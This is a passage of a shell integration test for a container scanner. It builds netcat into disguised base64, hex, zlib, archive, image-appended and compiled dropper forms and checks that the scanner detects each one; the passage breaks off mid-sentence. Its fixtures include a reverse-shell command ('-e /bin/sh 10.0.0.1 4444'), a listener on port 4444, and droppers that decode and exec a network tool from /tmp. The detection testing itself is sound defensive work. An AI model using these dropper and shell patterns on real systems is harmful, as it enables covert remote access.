# Integration: programs and archives carried as base64 text (lib/yara/
# b64find.c, read by nested.c): a real netcat from Debian, base64'ed by
# coreutils' base64 and by Python, in a script that pipes it to
# `base64 -d` (a heredoc and an echo), in a Python dropper without #!
# that hands it to b64decode (one string, and string literals Python
# joins, one per line), in a .b64 file of its own, and a tar.gz of
# it base64'ed. Each decodes with coreutils' `base64 -d` back to netcat
# (what the run could do) and is found by netcat's rule with the member
# "(base64)" named; benign base64 (Go's own test ELF, a base64 PNG-like
# blob, a short run, a uuencoded text) gives nothing. Self-extracting and
# shell archives (makeself --base64, shar, uuencode, heredocs with an
# unquoted end word, an indented block). Also programs inside other bytes
# (lib/yara/carve.c): netcat after a picture, one byte into base64; and
# hex (xxd -p) and "\xHH" escapes (a bash printf), decoded as such.
. "$PC_ROOT/tests/lib.sh"

fetch_all netcat-openbsd coreutils
mkdir -p "$T/x" && dpkg-deb -x "$DEBS"/netcat-openbsd_*.deb "$T/x" || fail "unpack netcat-openbsd" "dpkg-deb failed"
mkdir -p "$T/cu" && dpkg-deb -x "$DEBS"/coreutils_*.deb "$T/cu" || fail "unpack coreutils" "dpkg-deb failed"
NC="$T/x/bin/nc.openbsd"
E="$T/enc"
mkdir -p "$E/t"
b64=$(base64 -w 76 "$NC")
{ printf '#!/bin/sh\nbase64 -d >/tmp/.x <<'"'"'EOF'"'"'\n'; printf '%s\n' "$b64"; printf 'EOF\nchmod +x /tmp/.x && exec /tmp/.x -l 4444\n'; } >"$E/heredoc.sh"
{ printf '#!/bin/sh\necho "'; base64 -w 0 "$NC"; printf '" | base64 -d > /tmp/.y; chmod +x /tmp/.y; /tmp/.y -e /bin/sh 10.0.0.1 4444\n'; } >"$E/echo.sh"
python3 - "$NC" "$E/dropper.py" <<'PY'
import base64, sys
data = open(sys.argv[1], "rb").read()
open(sys.argv[2], "w").write("import base64, os\nBLOB = %r\nopen('/tmp/.z', 'wb').write(base64.b64decode(BLOB))\nos.chmod('/tmp/.z', 0o755)\n" % base64.b64encode(data).decode())
PY
# the same as string literals Python joins, one per line, the first short
python3 - "$NC" "$E/split.py" <<'PY'
import base64, sys
enc = base64.b64encode(open(sys.argv[1], "rb").read()).decode()
parts = [enc[:8]] + [enc[i:i + 60] for i in range(8, len(enc), 60)]
open(sys.argv[2], "w").write("import base64\nBLOB = (\n" + "".join("    b'%s'\n" % p for p in parts) + ")\nDATA = base64.b64decode(BLOB)\n")
PY
python3 -c 'import runpy, sys; sys.exit(runpy.run_path(sys.argv[1])["DATA"] != open(sys.argv[2], "rb").read())' "$E/split.py" "$NC" &&
    pass "python3 joins the split literals back into netcat" || fail "python3 joins the split literals back into netcat" "it does not"
# hex (`xxd -r -p` reads it, as Python's bytes.fromhex does) and "\xHH"
# escapes (bash's printf writes the bytes)
python3 - "$NC" "$E/hex.sh" "$E/esc.sh" <<'PY'
import sys
nc = open(sys.argv[1], "rb").read()
h = nc.hex()
open(sys.argv[2], "w").write("#!/bin/sh\nxxd -r -p >/tmp/.h <<'EOF'\n" + "\n".join(h[i:i + 60] for i in range(0, len(h), 60)) + "\nEOF\n")
open(sys.argv[3], "w").write("#!/bin/bash\nprintf '" + "".join("\\x%02x" % b for b in nc) + "' >/tmp/.e\n")
PY
python3 -c 'import sys; t = open(sys.argv[1]).read().split("\n"); sys.exit(bytes.fromhex("".join(t[2:-2])) != open(sys.argv[2], "rb").read())' "$E/hex.sh" "$NC" &&
    pass "bytes.fromhex gives netcat back from the hex" || fail "bytes.fromhex gives netcat back from the hex" "it does not"
bash -c 'printf "$(sed -n "2s/^printf .\(.*\). >.*/\1/p" "$1")"' sh "$E/esc.sh" | cmp -s - "$NC" &&
    pass "bash's printf gives netcat back from the escapes" || fail "bash's printf gives netcat back from the escapes" "it does not"
base64 "$NC" >"$E/nc.b64"
cp "$NC" "$E/t/helper" && tar czf "$E/t.tgz" -C "$E/t" helper && base64 "$E/t.tgz" >"$E/tool.tgz.b64"
# what the run could do: coreutils' base64 -d gives netcat back
B64D="$T/cu/usr/bin/base64"
sed -n '3,/^EOF$/p' "$E/heredoc.sh" | sed '$d' | "$B64D" -d | cmp -s - "$NC" && pass "base64 -d gives netcat back from the heredoc" ||
    fail "base64 -d gives netcat back from the heredoc" "it does not"
"$B64D" -d "$E/nc.b64" | cmp -s - "$NC" && pass "base64 -d gives netcat back from the .b64 file" ||
    fail "base64 -d gives netcat back from the .b64 file" "it does not"

files_image enc-img "$E" 0644 heredoc.sh echo.sh dropper.py split.py hex.sh esc.sh nc.b64 tool.tgz.b64
tools_only
run "base64 netcat denied" 1 "$PC" scan --cache-dir "$(fresh_cache)" --policy "$T/tools-only.json" --format json "oci:$T/enc-img/oci:latest"
while read -r f member; do
    jq_true "encoded: $f: netcat found in $member" "[.reports[0].findings[] | select(.check == \"suspicious-tool\" and .path == \"/opt/$f\" and .rule == \"netcat_openbsd\" and (.message | endswith(\"as the archive member $member\")))] | length == 1"
done <<'X'
heredoc.sh (base64)
echo.sh (base64)
dropper.py (base64)
split.py (base64)
hex.sh (hex)
esc.sh (escaped)
nc.b64 (base64)
tool.tgz.b64 (base64) > helper
X

# Scripts over yara.max_file_bytes (read in blocks, never whole): 4 MiB of
# comments, then netcat as a base64 heredoc that crosses the first
# block's end, or uuencoded after 5 MiB; each still found. A JavaScript
# bundle on one line that inlines 18 MiB of data and netcat as one base64
# run (as bundles inline WebAssembly) is read too, and a clean one of 30
# MB allowed; a run longer than 32 MiB is a bound (scan-error), not a
# pass.
python3 - "$NC" "$E/big" <<'PY'
import base64, binascii, os, sys
nc = open(sys.argv[1], "rb").read()
d = sys.argv[2]
os.makedirs(d, exist_ok=True)
line = "# " + "configuration and setup notes for the service " * 2 + "\n"
def pad(n):
    return line * (n // len(line)) + "#" * (n % len(line) - 1) + "\n"
head = "#!/bin/sh\n"
b = base64.encodebytes(nc).decode()
body = head + pad((4 << 20) - 20000 - len(head)) + "base64 -d >/tmp/.x <<EOF\n" + b + "EOF\nexec /tmp/.x -l 4444\n"
open(os.path.join(d, "big-b64.sh"), "w").write(body)
uu = "".join(binascii.b2a_uu(nc[i:i + 45]).decode() for i in range(0, len(nc), 45))
open(os.path.join(d, "big-uu.sh"), "w").write(head + pad(5 << 20) + "uudecode <<'E'\nbegin 755 /tmp/.y\n" + uu + "`\nend\nE\n")
open(os.path.join(d, "huge-run.txt"), "w").write("data: " + base64.b64encode(os.urandom(25 << 20)).decode() + "\n")
js = "!function(){var a=1;" + "x" * 1000 + ';var w="data:application/octet-stream;base64,'
open(os.path.join(d, "bundle.js"), "w").write(js + base64.b64encode(os.urandom(18 << 20) + nc).decode() + '";module.exports=w}();\n')
open(os.path.join(d, "clean.js"), "w").write(js + base64.b64encode(os.urandom(22 << 20)).decode() + '";module.exports=w}();\n')
PY
sed -n '/^base64 -d/,/^EOF$/p' "$E/big/big-b64.sh" | sed '1d;$d' | "$T/cu/usr/bin/base64" -d | cmp -s - "$NC" && pass "base64 -d gives netcat back from the big script" ||
    fail "base64 -d gives netcat back from the big script" "it does not"
files_image big-img "$E/big" 0755 big-b64.sh big-uu.sh
run "big scripts denied" 1 "$PC" scan --cache-dir "$(fresh_cache)" --policy "$T/tools-only.json" --format json "oci:$T/big-img/oci:latest"
for f in big-b64.sh:base64 big-uu.sh:uuencoded; do
    jq_true "over max_file_bytes: ${f%%:*}: netcat found in (${f#*:})" "[.reports[0].findings[] | select(.path == \"/opt/${f%%:*}\" and .rule == \"netcat_openbsd\" and (.message | endswith(\"as the archive member (${f#*:})\")))] | length == 1"
done
files_image js-img "$E/big" 0644 bundle.js
run "a bundle inlining netcat in a 24 MiB base64 run denied" 1 "$PC" scan --cache-dir "$(fresh_cache)" --policy "$T/tools-only.json" --format json "oci:$T/js-img/oci:latest"
jq_true "... netcat found after 18 MiB of what the run decodes to" '[.reports[0].findings[] | select(.path == "/opt/bundle.js" and .rule == "netcat_openbsd" and (.message | endswith("as the archive member (base64) > (program at byte 18874368)")))] | length == 1'
files_image cleanjs-img "$E/big" 0644 clean.js
run "a bundle inlining 30 MB of base64 data allowed" 0 "$PC" scan --cache-dir "$(fresh_cache)" --policy "$T/tools-only.json" --format json "oci:$T/cleanjs-img/oci:latest"
files_image huge-img "$E/big" 0644 huge-run.txt
run "a base64 run longer than 32 MiB: scan-error" 3 "$PC" scan --cache-dir "$(fresh_cache)" --policy "$T/tools-only.json" --format json "oci:$T/huge-img/oci:latest"
jq_true "... which says why" '[.reports[0].findings[] | select(.check == "scan-error" and (.message | test("run of base64, hex or uuencoded text longer than portcullis decodes")))] | length == 1'

# zlib (RFC 1950), the usual wrapper of a Python dropper's payload
# (exec(zlib.decompress(b64decode(...)))) and of a .zlib file a script
# inflates, and raw deflate (PHP's gzinflate): found as "(base64) >
# (zlib)", "(zlib)" and "(base64) > (deflate)"; each given back by
# python3's zlib
python3 - "$NC" "$E/zl" <<'PY'
import base64, os, sys, zlib
nc = open(sys.argv[1], "rb").read()
d = sys.argv[2]
os.makedirs(d, exist_ok=True)
c = zlib.compressobj(9, zlib.DEFLATED, 12)  # a 4 KiB window: a header zlib.compress never writes
open(os.path.join(d, "drop.py"), "w").write("import base64, sys, zlib\nBLOB = %r\nopen(sys.argv[1], 'wb').write(zlib.decompress(base64.b64decode(BLOB)))\n" % base64.b64encode(c.compress(nc) + c.flush()).decode())
open(os.path.join(d, "agent.zlib"), "wb").write(zlib.compress(nc, 6))
# raw deflate, no header (PHP's gzinflate, zlib.decompress(data, -15))
r = zlib.compressobj(9, zlib.DEFLATED, -15)
raw = base64.b64encode(r.compress(nc) + r.flush()).decode()
open(os.path.join(d, "drop.php"), "w").write("<?php\n$f = fopen('/tmp/.n', 'w');\nfwrite($f, gzinflate(base64_decode('%s')));\n" % raw)
open(os.path.join(d, "raw.b64"), "w").write(raw + "\n")
PY
python3 "$E/zl/drop.py" "$E/zl-out" && cmp -s "$E/zl-out" "$NC" && python3 -c 'import sys, zlib; sys.exit(zlib.decompress(open(sys.argv[1], "rb").read()) != open(sys.argv[2], "rb").read())' "$E/zl/agent.zlib" "$NC" &&
    pass "python3's zlib gives netcat back" || fail "python3's zlib gives netcat back" "it does not"
python3 -c 'import base64, sys, zlib; sys.exit(zlib.decompress(base64.b64decode(open(sys.argv[1]).read()), -15) != open(sys.argv[2], "rb").read())' "$E/zl/raw.b64" "$NC" &&
    pass "python3's raw inflate gives netcat back" || fail "python3's raw inflate gives netcat back" "it does not"
files_image zlib-img "$E/zl" 0644 drop.py agent.zlib drop.php
run "zlib payloads denied" 1 "$PC" scan --cache-dir "$(fresh_cache)" --policy "$T/tools-only.json" --format json "oci:$T/zlib-img/oci:latest"
jq_true "zlib: the dropper's payload found in (base64) > (zlib)" '[.reports[0].findings[] | select(.path == "/opt/drop.py" and .rule == "netcat_openbsd" and (.message | endswith("as the archive member (base64) > (zlib)")))] | length == 1'
jq_true "zlib: the .zlib file found as (zlib)" '[.reports[0].findings[] | select(.path == "/opt/agent.zlib" and .rule == "netcat_openbsd" and (.message | endswith("as the archive member (zlib)")))] | length == 1'
jq_true "raw deflate: the PHP dropper's payload found in (base64) > (deflate)" '[.reports[0].findings[] | select(.path == "/opt/drop.php" and .rule == "netcat_openbsd" and (.message | endswith("as the archive member (base64) > (deflate)")))] | length == 1'

# Self-extracting and shell archives, each written by its own tool and
# each giving netcat back when run as the image could run it:
# - makeself --base64 (a script whose payload is a base64 tar, its first
#   line after the script's last word);
# - a heredoc with an unquoted end word (<<EOF: the run's first line is
#   "EOF"), of base64 and of hex;
# - an indented block that Python's b64decode reads, blanks and all;
# - uuencode -m ("begin-base64 644 nc": the run's first line ends "nc");
# - shar (uuencodes netcat; the archive pipes it to uudecode when run) and
#   classic uuencode, decoded as "(uuencoded)".
S="$E/sfx"
mkdir -p "$S/payload" "$S/out"
cp "$NC" "$S/payload/agent"
makeself --quiet --base64 "$S/payload" "$S/agent.run" "agent" ./agent >/dev/null 2>&1 || fail "makeself --base64" "failed"
sh "$S/agent.run" --noexec --quiet --target "$S/out/mk" >/dev/null 2>&1
cmp -s "$S/out/mk/agent" "$NC" && pass "makeself's archive gives netcat back" || fail "makeself's archive gives netcat back" "it does not"
{ printf '#!/bin/sh
base64 -d >"$1" <<EOF
'; printf '%s\n' "$b64"; printf 'EOF\n'; } >"$S/heredoc.sh"
python3 - "$NC" "$S/hexdoc.sh" "$S/indented.py" <<'PY'
import base64, sys
nc = open(sys.argv[1], "rb").read()
h = nc.hex()
open(sys.argv[2], "w").write("#!/bin/sh\nxxd -r -p >\"$1\" <<EOF\n" + "\n".join(h[i:i + 60] for i in range(0, len(h), 60)) + "\nEOF\n")
b = base64.encodebytes(nc).decode().replace("\n", "\n        ")
open(sys.argv[3], "w").write("import base64, sys\n\n\ndef payload():\n    return base64.b64decode('''\n        " + b + "''')\n\n\nopen(sys.argv[1], 'wb').write(payload())\n")
PY
sh "$S/heredoc.sh" "$S/out/heredoc" && cmp -s "$S/out/heredoc" "$NC" && pass "the <<EOF heredoc gives netcat back" ||
    fail "the <<EOF heredoc gives netcat back" "it does not"
python3 -c 'import sys; t = open(sys.argv[1]).read().split("\n"); sys.exit(bytes.fromhex("".join(t[2:-2])) != open(sys.argv[2], "rb").read())' "$S/hexdoc.sh" "$NC" &&
    pass "bytes.fromhex gives netcat back from the <<EOF hex" || fail "bytes.fromhex gives netcat back from the <<EOF hex" "it does not"
python3 "$S/indented.py" "$S/out/indented" && cmp -s "$S/out/indented" "$NC" && pass "python3 decodes the indented block to netcat" ||
    fail "python3 decodes the indented block to netcat" "it does not"
for t in uuencode uudecode shar; do
    command -v "$t" >/dev/null 2>&1 || fail "$t installed" "not on PATH (scripts/deps.sh installs sharutils)"
done
(cd "$S/payload" && uuencode -m agent agent) >"$S/agent.uue64"
(cd "$S/payload" && uuencode agent agent) >"$S/agent.uue"
(cd "$S/payload" && shar agent 2>/dev/null) >"$S/agent.shar"
uudecode -o "$S/out/uue64" "$S/agent.uue64" && cmp -s "$S/out/uue64" "$NC" && pass "uudecode gives netcat back (base64)" ||
    fail "uudecode gives netcat back (base64)" "it does not"
uudecode -o "$S/out/uue" "$S/agent.uue" && cmp -s "$S/out/uue" "$NC" && pass "uudecode gives netcat back" ||
    fail "uudecode gives netcat back" "it does not"
mkdir -p "$S/out/shar" && (cd "$S/out/shar" && sh "$S/agent.shar" >/dev/null 2>&1) && cmp -s "$S/out/shar/agent" "$NC" &&
    pass "the shell archive unpacks netcat" || fail "the shell archive unpacks netcat" "it does not"
files_image sfx-img "$S" 0644 agent.run heredoc.sh hexdoc.sh indented.py agent.uue64 agent.uue agent.shar
run "self-extracting and shell archives denied" 1 "$PC" scan --cache-dir "$(fresh_cache)" --policy "$T/tools-only.json" --format json "oci:$T/sfx-img/oci:latest"
while read -r f member; do
    jq_true "archives: $f: netcat found in $member" "[.reports[0].findings[] | select(.check == \"suspicious-tool\" and .path == \"/opt/$f\" and .rule == \"netcat_openbsd\" and (.message | endswith(\"as the archive member $member\")))] | length == 1"
done <<'X'
agent.run (base64) > ./agent
heredoc.sh (base64)
hexdoc.sh (hex)
indented.py (base64)
agent.uue64 (base64)
agent.uue (uuencoded)
agent.shar (uuencoded)
X

# Programs inside other bytes (lib/yara/carve.c): netcat appended to a
# PNG picture (what `tail -c +N` cuts back out), and base64 of one byte
# then netcat (`base64 -d | tail -c +2`); each found as the program at its
# byte. Not a program: "\x7fELF" with no loadable header after it.
mkdir -p "$E/c"
python3 - "$NC" "$E/c" <<'PY'
import base64, os, struct, sys, zlib
nc = open(sys.argv[1], "rb").read()
d = sys.argv[2]
def chunk(t, b):
    return struct.pack(">I", len(b)) + t + b + struct.pack(">I", zlib.crc32(t + b))
png = b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", 8, 8, 8, 0, 0, 0, 0)) + \
    chunk(b"IDAT", zlib.compress(b"\0" * 72)) + chunk(b"IEND", b"")
open(os.path.join(d, "logo.png"), "wb").write(png + nc)
open(os.path.join(d, "shifted.b64"), "w").write(base64.encodebytes(b"x" + nc).decode())
open(os.path.join(d, "magic.txt"), "wb").write(b"ELF files start with \x7fELF" + b"\x7fELF\x02\x01\x01" + b"\0" * 200)
open(os.path.join(d, "offset"), "w").write(str(len(png) + 1))
PY
tail -c +"$(cat "$E/c/offset")" "$E/c/logo.png" | cmp -s - "$NC" && pass "tail -c cuts netcat out of the picture" ||
    fail "tail -c cuts netcat out of the picture" "it does not"
files_image carve-img "$E/c" 0644 logo.png shifted.b64 magic.txt
run "programs inside other bytes denied" 1 "$PC" scan --cache-dir "$(fresh_cache)" --policy "$T/tools-only.json" --format json "oci:$T/carve-img/oci:latest"
at=$(($(cat "$E/c/offset") - 1))
jq_true "carved: netcat after the picture, at its byte" "[.reports[0].findings[] | select(.path == \"/opt/logo.png\" and .rule == \"netcat_openbsd\" and (.message | endswith(\"as the archive member (program at byte $at)\")))] | length == 1"
jq_true "carved: netcat one byte into decoded base64" '[.reports[0].findings[] | select(.path == "/opt/shifted.b64" and .rule == "netcat_openbsd" and (.message | endswith("as the archive member (base64) > (program at byte 1)")))] | length == 1'
jq_true "carved: a magic with no loadable header is nothing" '[.reports[0].findings[] | select(.path == "/opt/magic.txt")] | length == 0'

# Programs that carry another, compressed, in their data and write it out
# when they run (a dropper): built with gcc (.incbin of netcat's gzip,
# xz and zstd), each run and giving netcat back, one over max_file_bytes
# (read in blocks); a picture with a zstd stream after it. Found as the
# stream at its byte, opened. Benign: arj, whose binary holds its
# self-extractor module (an ELF) in its data; skopeo, a Go program over
# max_file_bytes with gzip streams of its own.
D="$E/drop"
mkdir -p "$D/img"
gzip -9 -c "$NC" >"$D/nc.gz" && xz -c "$NC" >"$D/nc.xz" && zstd -q -c "$NC" >"$D/nc.zst" || fail "compress netcat" "failed"
for k in gz xz zst; do
    cat >"$D/drop-$k.c" <<C
#include <stdio.h>
__asm__(".section .rodata\\n.global payload\\npayload:\\n.incbin \\"$D/nc.$k\\"\\n.global payload_end\\npayload_end:\\n.previous\\n");
extern const unsigned char payload[], payload_end[];
int main(int argc, char **argv)
{
    FILE *f = argc > 1 ? fopen(argv[1], "wb") : NULL;
    return !f || fwrite(payload, 1, (size_t)(payload_end - payload), f) != (size_t)(payload_end - payload) || fclose(f);
}
C
    gcc -O2 -o "$D/img/dropper-$k" "$D/drop-$k.c" || fail "gcc dropper-$k" "failed"
    "$D/img/dropper-$k" "$D/out.$k" || fail "dropper-$k runs" "it does not"
done
gzip -dc "$D/out.gz" | cmp -s - "$NC" && xz -dc "$D/out.xz" | cmp -s - "$NC" && zstd -q -dc "$D/out.zst" | cmp -s - "$NC" &&
    pass "the droppers write netcat out" || fail "the droppers write netcat out" "they do not"
# a dropper over yara.max_file_bytes (read in blocks, never whole): 5 MiB
# of data before its gzip'd payload, the last of it 600 magic numbers that
# start no stream (more than a block's list of candidates holds)
head -c 5242880 /dev/urandom >"$D/pad.bin"
python3 -c 'import sys; sys.stdout.buffer.write((b"BZh9xx" + b"\x1f\x8b\x08\xffyy") * 300)' >>"$D/pad.bin"
cat >"$D/big.c" <<C
#include <stdio.h>
__asm__(".section .rodata\\n.global pad\\npad:\\n.incbin \\"$D/pad.bin\\"\\n.global payload\\npayload:\\n.incbin \\"$D/nc.gz\\"\\n.global payload_end\\npayload_end:\\n.previous\\n");
extern const unsigned char payload[], payload_end[];
int main(int argc, char **argv)
{
    FILE *f = argc > 1 ? fopen(argv[1], "wb") : NULL;
    return !f || fwrite(payload, 1, (size_t)(payload_end - payload), f) != (size_t)(payload_end - payload) || fclose(f);
}
C
gcc -O2 -o "$D/img/bigdrop" "$D/big.c" || fail "gcc bigdrop" "failed"
"$D/img/bigdrop" "$D/out.big" && gzip -dc "$D/out.big" | cmp -s - "$NC" && pass "the big dropper writes netcat out" ||
    fail "the big dropper writes netcat out" "it does not"
at=$(python3 -c 'import sys; print(open(sys.argv[1], "rb").read().find(open(sys.argv[2], "rb").read()))' "$D/img/bigdrop" "$D/nc.gz")
{ cat "$E/c/logo.png" | head -c 100; cat "$D/nc.zst"; } >"$D/img/logo.png"
command -v arj >/dev/null 2>&1 && cp "$(command -v arj)" "$D/img/arj" || fail "arj installed" "not on PATH (scripts/deps.sh installs it)"
# skopeo (Go, 16 MB, read in blocks) holds real gzip streams of its own
cp "$(command -v skopeo)" "$D/img/skopeo" || fail "skopeo installed" "not on PATH"
files_image drop-img "$D/img" 0755 dropper-gz dropper-xz dropper-zst logo.png arj bigdrop skopeo
run "droppers denied" 1 "$PC" scan --cache-dir "$(fresh_cache)" --policy "$T/tools-only.json" --format json "oci:$T/drop-img/oci:latest"
for f in dropper-gz:gzip dropper-xz:xz dropper-zst:zstd logo.png:zstd; do
    jq_true "dropper: ${f%%:*}: netcat in the ${f#*:} stream inside it" "[.reports[0].findings[] | select(.path == \"/opt/${f%%:*}\" and .rule == \"netcat_openbsd\" and (.message | test(\"as the archive member [(]at byte [0-9]+[)] > [(]${f#*:}[)]\$\")))] | length == 1"
done
jq_true "dropper: arj and its self-extractor are nothing" '[.reports[0].findings[] | select(.path == "/opt/arj")] | length == 0'
jq_true "dropper over max_file_bytes: netcat in the gzip stream at its byte" "[.reports[0].findings[] | select(.path == \"/opt/bigdrop\" and .rule == \"netcat_openbsd\" and (.message | endswith(\"as the archive member (at byte $at) > (gzip)\")))] | length == 1"
jq_true "dropper: skopeo's own gzip streams are nothing" '[.reports[0].findings[] | select(.path == "/opt/skopeo")] | length == 0'

# zlib (RFC 1950: what zlib's compress(), Python's zlib.compress and Go's
# compress/zlib write; a 2-byte header that chance puts everywhere, so a
# stream counts by what it decodes to first: a program, a script or an
# archive): a C dropper that inflates netcat with zlib's uncompress() and
# starts it (run here: it becomes netcat), the same payload at level 1
# after 5 MiB of data in a file read in blocks, and a gzip'd tar inside a
# zlib stream. Benign: a program carrying zlib-compressed text (opened as
# nothing), and this machine's libz and python3 (zlib headers by chance).
Z="$E/zdrop"
mkdir -p "$Z/img"
python3 - "$NC" "$Z" <<'PY'
import io, os, sys, tarfile, zlib
nc = open(sys.argv[1], "rb").read()
z = sys.argv[2]
open(z + "/nc.z9", "wb").write(zlib.compress(nc, 9))  # 78 da
open(z + "/nc.z1", "wb").write(zlib.compress(nc, 1))  # 78 01
t = io.BytesIO()
with tarfile.open(fileobj=t, mode="w:gz") as tf:
    i = tarfile.TarInfo("agent"); i.size = len(nc); i.mode = 0o755
    tf.addfile(i, io.BytesIO(nc))
open(z + "/tgz.z", "wb").write(zlib.compress(t.getvalue(), 6))  # 78 9c
open(z + "/text.z", "wb").write(zlib.compress(b"just some text, no program in it\n" * 200))
PY
cat >"$Z/inflate.c" <<C
#include <stdio.h>
#include <stdlib.h>
#include <sys/stat.h>
#include <unistd.h>
#include <zlib.h>
__asm__(".section .rodata\\n.global payload\\npayload:\\n.incbin \\"$Z/nc.z9\\"\\n.global payload_end\\npayload_end:\\n"
        ".global text\\ntext:\\n.incbin \\"$Z/text.z\\"\\n.previous\\n");
extern const unsigned char payload[], payload_end[], text[];
int main(int argc, char **argv)
{
    static unsigned char out[1 << 22];
    uLongf n = sizeof out;
    if (argc < 2 || uncompress(out, &n, payload, (uLong)(payload_end - payload)) != Z_OK)
        return 1;
    FILE *f = fopen(argv[1], "wb");
    if (!f || fwrite(out, 1, n, f) != n || fclose(f) || chmod(argv[1], 0755))
        return 1;
    execv(argv[1], argv + 1);
    return 1;
}
C
gcc -O2 -o "$Z/img/zdropper" "$Z/inflate.c" -lz || fail "gcc zdropper" "failed"
"$Z/img/zdropper" "$Z/out" nc -h 2>&1 | grep -q "OpenBSD netcat" && pass "the zlib dropper inflates netcat and starts it" ||
    fail "the zlib dropper inflates netcat and starts it" "$("$Z/img/zdropper" "$Z/out" nc -h 2>&1 | head -c 300)"
{ head -c 5242880 /dev/urandom; cat "$Z/nc.z1"; head -c 1000 /dev/urandom; } >"$Z/img/bigz"
zat=$(python3 -c 'import sys; print(open(sys.argv[1], "rb").read().find(open(sys.argv[2], "rb").read()))' "$Z/img/bigz" "$Z/nc.z1")
tail -c +$((zat + 1)) "$Z/img/bigz" | python3 -c 'import sys, zlib; sys.stdout.buffer.write(zlib.decompressobj().decompress(sys.stdin.buffer.read()))' |
    cmp -s - "$NC" && pass "the big file gives netcat back from its zlib stream" || fail "the big file gives netcat back from its zlib stream" "it does not"
{ cp /bin/true "$Z/img/tgzdrop" && cat "$Z/tgz.z" >>"$Z/img/tgzdrop"; } || fail "tgzdrop" "cp failed"
cp "$(readlink -f /lib/x86_64-linux-gnu/libz.so.1)" "$Z/img/libz.so" && cp "$(readlink -f "$(command -v python3)")" "$Z/img/python3" ||
    fail "copy libz and python3" "failed"
files_image zdrop-img "$Z/img" 0755 zdropper bigz tgzdrop libz.so python3
run "zlib droppers denied" 1 "$PC" scan --cache-dir "$(fresh_cache)" --policy "$T/tools-only.json" --format json "oci:$T/zdrop-img/oci:latest"
jq_true "zlib dropper: netcat in the zlib stream inside it" '[.reports[0].findings[] | select(.path == "/opt/zdropper" and .rule == "netcat_openbsd" and (.message | test("as the archive member [(]at byte [0-9]+[)] > [(]zlib[)]$")))] | length == 1'
jq_true "zlib over max_file_bytes: netcat in the stream at its byte" "[.reports[0].findings[] | select(.path == \"/opt/bigz\" and .rule == \"netcat_openbsd\" and (.message | endswith(\"as the archive member (at byte $zat) > (zlib)\")))] | length == 1"
jq_true "zlib: a tar.gz inside, its member named" '[.reports[0].findings[] | select(.path == "/opt/tgzdrop" and .rule == "netcat_openbsd" and (.message | test("[(]at byte [0-9]+[)] > [(]zlib[)] > [(]gzip[)]|[(]at byte [0-9]+[)] > [(]zlib[)] > agent")))] | length == 1'
jq_true "zlib: libz, python3 and the compressed text are nothing" '[.reports[0].findings[] | select(.path == "/opt/libz.so" or .path == "/opt/python3")] | length == 0'
jq_true "zlib: only the three droppers found" '[.reports[0].findings[] | select(.check == "suspicious-tool")] | length == 3'

# base64 inside a compiled program (a dropper's string constant, which it
# decodes and writes out): a Go dropper (encoding/base64, built here and
# run: it becomes netcat; Go stores its strings with nothing between them,
# so the run starts with the letters of the strings before it) and C
# programs whose constant has 1, 2 and 3 letters before the payload (the
# run read from each of its first four letters), also in a program over
# max_file_bytes (read in blocks); `go` itself (read in blocks), whose own
# strings hold long runs of letters, is nothing.
G="$E/gdrop"
mkdir -p "$G/src" "$G/img"
python3 - "$NC" "$G" <<'PY'
import base64, sys
b = base64.b64encode(open(sys.argv[1], "rb").read()).decode()
open(sys.argv[2] + "/src/payload.go", "w").write('package main\n\nconst payload = "' + b + '"\n')
for pre in ("q", "qr", "qrs"):
    open(sys.argv[2] + "/c%d.h" % len(pre), "w").write('static const char payload[] = "' + pre + b + '";\n')
PY
cat >"$G/src/main.go" <<'GO'
package main

import (
	"encoding/base64"
	"os"
	"syscall"
)

func main() {
	b, err := base64.StdEncoding.DecodeString(payload)
	if err != nil || len(os.Args) < 2 || os.WriteFile(os.Args[1], b, 0o755) != nil {
		os.Exit(1)
	}
	syscall.Exec(os.Args[1], os.Args[1:], os.Environ())
}
GO
(cd "$G/src" && GO111MODULE=off GOPATH="$G/gopath" GOFLAGS= GOPROXY=off CGO_ENABLED=0 GOCACHE="$G/gocache" \
    go build -o "$G/img/gdropper" .) >"$G/build.log" 2>&1 || fail "go build gdropper" "$(head -c 400 "$G/build.log")"
"$G/img/gdropper" "$G/out" -h 2>&1 | grep -q "OpenBSD netcat" && pass "the Go dropper decodes netcat and starts it" ||
    fail "the Go dropper decodes netcat and starts it" "$("$G/img/gdropper" "$G/out" -h 2>&1 | head -c 300)"
for k in 1 2 3; do
    printf '#include <stdio.h>\n#include "%s"\nint main(void) { return puts(payload + %d) < 0; }\n' "$G/c$k.h" "$k" >"$G/c$k.c"
    gcc -O2 -o "$G/img/cdrop$k" "$G/c$k.c" || fail "gcc cdrop$k" "failed"
done
"$G/img/cdrop2" | base64 -d | cmp -s - "$NC" && pass "the C program's constant decodes to netcat after its letters" ||
    fail "the C program's constant decodes to netcat after its letters" "it does not"
# over max_file_bytes (read in blocks): 5 MiB of data before the constant
cat >"$G/big.c" <<C
#include <stdio.h>
#include "$G/c2.h"
__asm__(".section .rodata\\n.global pad\\npad:\\n.incbin \\"$D/pad.bin\\"\\n.previous\\n");
extern const unsigned char pad[];
int main(void) { return puts(payload + 2) < 0 || pad[0] == 7; }
C
gcc -O2 -o "$G/img/bigcdrop" "$G/big.c" || fail "gcc bigcdrop" "failed"
[ "$(stat -c %s "$G/img/bigcdrop")" -gt 4194304 ] && "$G/img/bigcdrop" | base64 -d | cmp -s - "$NC" &&
    pass "the big C program's constant decodes to netcat" || fail "the big C program's constant decodes to netcat" "it does not"
cp "$(readlink -f "$(command -v go)")" "$G/img/go" || fail "copy go" "failed"
files_image gdrop-img "$G/img" 0755 gdropper cdrop1 cdrop2 cdrop3 bigcdrop go
run "base64 in programs denied" 1 "$PC" scan --cache-dir "$(fresh_cache)" --policy "$T/tools-only.json" --format json "oci:$T/gdrop-img/oci:latest"
for f in gdropper cdrop1 cdrop2 cdrop3 bigcdrop; do
    jq_true "base64 in $f: netcat found" "[.reports[0].findings[] | select(.path == \"/opt/$f\" and .rule == \"netcat_openbsd\" and (.message | test(\"as the archive member [(]base64[)]( > [(]program at byte [0-9]+[)])?\$\")))] | length == 1"
done
jq_true "base64 in programs: go is nothing" '[.reports[0].findings[] | select(.path == "/opt/go")] | length == 0'

# Programs stored as they are (not compressed) inside a file over
# yara.max_file_bytes, read in blocks: netcat after 5 MiB of data and
# before more, which `tail -c +N | head -c L` writes back out; a copy with
# no section headers (its extent is its program headers') and one whose
# class, byte order and version bytes lie (also in a small file held
# whole), each of which still runs; the same program twice in one file. Benign: /bin/true and
